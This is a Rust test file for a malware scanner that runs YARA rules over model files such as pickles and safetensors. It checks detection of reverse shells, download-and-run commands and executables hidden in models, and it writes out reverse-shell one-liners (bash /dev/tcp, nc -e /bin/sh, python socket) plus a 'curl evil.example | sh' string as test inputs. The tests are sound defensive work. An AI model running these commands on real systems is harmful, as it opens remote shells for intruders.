//! The built-in rules and operator rule directories, through the full scanner
//! (`airlock_scan::scan_source_with`), so sniffing and the model flag are exercised too.

use airlock_scan::{scan_source_with, Finding, Limits, Severity};
use airlock_yara::RuleSet;

const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

fn scan(rules: &RuleSet, name: &str, bytes: &[u8]) -> Vec<Finding> {
    scan_source_with(&bytes, name, &Limits::default(), rules).unwrap()
}

fn rules_of(f: &[Finding]) -> Vec<(String, Severity)> {
    f.iter().map(|f| (f.rule.clone(), f.severity)).collect()
}

/// A protocol-3 pickle of one `bytes` object (SHORT_BINBYTES / BINBYTES).
fn pickle_of_bytes(data: &[u8]) -> Vec<u8> {
    let mut p = vec![0x80, 3, b'B'];
    p.extend_from_slice(&(data.len() as u32).to_le_bytes());
    p.extend_from_slice(data);
    p.push(b'.');
    p
}

#[test]
fn builtin_rules_find_what_they_name() {
    let r = RuleSet::builtin();
    let mut eicar = b"some text\n".to_vec();
    eicar.extend_from_slice(EICAR);
    assert_eq!(
        rules_of(&scan(&r, "notes.txt", &eicar)),
        [("yara/builtin/eicar_test_file".into(), Severity::Malicious)]
    );
    for shell in [
        &b"sh -i >& /dev/tcp/10.0.0.1/4444 0>&1"[..],
        b"exec 5<>/dev/tcp/evil.example/80",
        b"nc -e /bin/sh 10.0.0.1 4444",
        b"python -c 'import pty;pty.spawn(\"/bin/bash\")'",
        b"s=socket.socket(2,1);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0)",
    ] {
        let f = scan(&r, "run.sh", shell);
        assert_eq!(
            rules_of(&f),
            [("yara/builtin/reverse_shell".into(), Severity::Malicious)],
            "{}",
            String::from_utf8_lossy(shell)
        );
    }
    // A script that pipes a download into a shell is suspicious; documentation that shows
    // the same command is not flagged.
    let script = b"#!/bin/sh\nset -e\ncurl -fsSL https://get.example/install | sh\n";
    assert_eq!(
        rules_of(&scan(&r, "install.sh", script)),
        [(
            "yara/builtin/download_and_run_script".into(),
            Severity::Suspicious
        )]
    );
    assert!(scan(&r, "README.md", &script[10..]).is_empty());
    // In a model file the same string is malicious, and the finding names the rule.
    let model = pickle_of_bytes(b"curl -fsSL http://evil.example/x | sh");
    let f = scan(&r, "weights.pkl", &model);
    assert_eq!(
        rules_of(&f),
        [(
            "yara/builtin/download_and_run_in_model".into(),
            Severity::Malicious
        )]
    );
    assert!(f[0].detail.contains("$pipe at 7"), "{}", f[0].detail);
}

#[test]
fn executables_count_only_inside_model_files() {
    let r = RuleSet::builtin();
    let elf = std::fs::read("/bin/true").expect("/bin/true");
    // The executable itself is not a finding (images are full of them) ...
    assert!(scan(&r, "true", &elf).is_empty());
    // ... but inside a pickle it is.
    let f = scan(
        &r,
        "model.pkl",
        &pickle_of_bytes(&elf[..4096.min(elf.len())]),
    );
    assert_eq!(
        rules_of(&f),
        [(
            "yara/builtin/executable_in_model".into(),
            Severity::Malicious
        )]
    );
    // A PE: MZ header, DOS stub text.
    let mut pe = b"MZ\x90\x00".to_vec();
    pe.resize(0x4e, 0);
    pe.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
    let f = scan(&r, "model.pkl", &pickle_of_bytes(&pe));
    assert_eq!(
        rules_of(&f),
        [(
            "yara/builtin/executable_in_model".into(),
            Severity::Malicious
        )]
    );
}

/// The real bash binary contains "/dev/tcp/" (it implements the redirection): the
/// reverse-shell rule needs a host and port and must not fire on it.
#[test]
fn system_binaries_are_not_flagged() {
    let r = RuleSet::builtin();
    for p in ["/bin/bash", "/bin/sh", "/usr/bin/env"] {
        let Ok(bytes) = std::fs::read(p) else {
            continue;
        };
        let f = scan(&r, p, &bytes);
        assert!(f.is_empty(), "{p}: {f:?}");
    }
}

/// Leaves above the whole-scan limit are scanned in overlapping blocks: a pattern across a
/// block boundary is still found, and memory does not grow with the file.
#[test]
fn large_leaves_are_scanned_in_blocks() {
    let mut r = RuleSet::builtin();
    r.whole_limit = 1 << 20;
    let mut big = vec![b'.'; 10 << 20];
    let at = airlock_yara::BLOCK - 20; // straddles the first block boundary
    big[at..at + EICAR.len()].copy_from_slice(EICAR);
    let end = big.len() - EICAR.len();
    let f = scan(&r, "big.dat", &big);
    assert_eq!(
        rules_of(&f),
        [("yara/builtin/eicar_test_file".into(), Severity::Malicious)]
    );
    assert!(f[0].detail.contains(&format!("at {at}")), "{}", f[0].detail);
    big[at..at + EICAR.len()].fill(b'.');
    big[end..].copy_from_slice(EICAR);
    let f = scan(&r, "big.dat", &big);
    assert!(
        f[0].detail.contains(&format!("at {end}")),
        "{}",
        f[0].detail
    );
    big[end..].fill(b'.');
    assert!(scan(&r, "big.dat", &big).is_empty());
}

#[test]
fn operator_rule_directories() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("corp.yar"),
        r#"
rule internal_hostname { meta: severity = "suspicious" strings: $h = "build.corp.internal" condition: $h }
rule leaked_key { strings: $k = "-----BEGIN OPENSSH PRIVATE KEY-----" condition: $k }
rule model_marker { strings: $m = "MARKER-7" condition: airlock_model and airlock_kind == "pickle" and $m }
"#,
    )
    .unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule file").unwrap();
    let r = RuleSet::load(&[dir.path().to_path_buf()]).unwrap();
    assert_eq!(r.files().len(), 2);
    assert_eq!(r.files()[1].namespace, "corp");
    let f = scan(
        &r,
        "x.cfg",
        b"host=build.corp.internal\n-----BEGIN OPENSSH PRIVATE KEY-----\n",
    );
    let mut got = rules_of(&f);
    got.sort();
    assert_eq!(
        got,
        [
            ("yara/corp/internal_hostname".into(), Severity::Suspicious),
            ("yara/corp/leaked_key".into(), Severity::Malicious),
        ]
    );
    // Externals: the same marker counts in a pickle only.
    assert!(scan(&r, "x.txt", b"MARKER-7").is_empty());
    assert_eq!(
        rules_of(&scan(&r, "m.pkl", &pickle_of_bytes(b"MARKER-7"))),
        [("yara/corp/model_marker".into(), Severity::Malicious)]
    );
    // The rule-set id changes with the rules.
    assert_ne!(r.id(), RuleSet::builtin().id());
}

#[test]
fn bad_rule_files_are_named() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("broken.yar"),
        "rule ok { condition: true }\nrule broken { strings: $a = \"x\" condition: $b }\n",
    )
    .unwrap();
    let e = RuleSet::load(&[dir.path().to_path_buf()])
        .unwrap_err()
        .to_string();
    assert!(e.contains("broken.yar"), "{e}");
    assert!(e.contains("$b"), "{e}");
    assert!(e.contains(":2:"), "names the line: {e}");

    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    std::fs::write(a.path().join("same.yar"), "rule a { condition: false }").unwrap();
    std::fs::write(b.path().join("same.yara"), "rule b { condition: false }").unwrap();
    let e = RuleSet::load(&[a.path().into(), b.path().into()])
        .unwrap_err()
        .to_string();
    assert!(e.contains("namespace \"same\""), "{e}");

    let e = RuleSet::load(&["/nonexistent/rules".into()])
        .unwrap_err()
        .to_string();
    assert!(e.contains("/nonexistent/rules"), "{e}");
}

/// False positives found by scanning a Debian system and a Python venv (71,000 files):
/// a man page's `echo $RANDOM > /dev/udp/127.0.0.1/1234`, and http/server.py's CGI
/// `os.dup2(self.rfile.fileno(), 0)`.
#[test]
fn documented_false_positives_stay_fixed() {
    let r = RuleSet::builtin();
    for text in [
        &b"$ while true; do echo $RANDOM > /dev/udp/127.0.0.1/1234;"[..],
        b"            os.dup2(self.rfile.fileno(), 0)\n            os.dup2(self.wfile.fileno(), 1)\n",
        b"/bin/bash -l > /dev/tcp/",
    ] {
        let f = scan(&r, "doc.txt", text);
        assert!(f.is_empty(), "{}: {f:?}", String::from_utf8_lossy(text));
    }
    // The redirection forms that do make a reverse shell.
    for text in [
        &b"/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1"[..],
        b"0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
    ] {
        assert_eq!(
            rules_of(&scan(&r, "x.sh", text)),
            [("yara/builtin/reverse_shell".into(), Severity::Malicious)]
        );
    }
}

fn safetensors(header: &str, data: &[u8]) -> Vec<u8> {
    let mut v = (header.len() as u64).to_le_bytes().to_vec();
    v.extend_from_slice(header.as_bytes());
    v.extend_from_slice(data);
    v
}

/// A validated safetensors file is scanned by the rules up to its tensor data: the header
/// (where metadata strings live) is scanned, the tensor bytes are not (they are proven to be
/// exactly the declared tensors). An invalid file is scanned whole.
#[test]
fn tensor_data_of_valid_safetensors_is_not_pattern_scanned() {
    let r = RuleSet::builtin();
    let n = EICAR.len();
    let hdr = format!(r#"{{"t":{{"dtype":"U8","shape":[{n}],"data_offsets":[0,{n}]}}}}"#);
    assert!(scan(&r, "m.safetensors", &safetensors(&hdr, EICAR)).is_empty());
    let meta = r#"{"__metadata__":{"note":"sh -i >& /dev/tcp/10.0.0.1/4444 0>&1"},"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#;
    let f = scan(&r, "m.safetensors", &safetensors(meta, b"\0"));
    assert_eq!(
        rules_of(&f),
        [("yara/builtin/reverse_shell".into(), Severity::Malicious)]
    );
    // Trailing bytes after the last tensor: invalid, and scanned whole.
    let hdr1 = r#"{"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#;
    let mut data = b"\0".to_vec();
    data.extend_from_slice(EICAR);
    let mut got = rules_of(&scan(&r, "m.safetensors", &safetensors(hdr1, &data)));
    got.sort();
    assert_eq!(
        got,
        [
            ("safetensors/format".into(), Severity::Invalid),
            ("yara/builtin/eicar_test_file".into(), Severity::Malicious),
        ]
    );
}
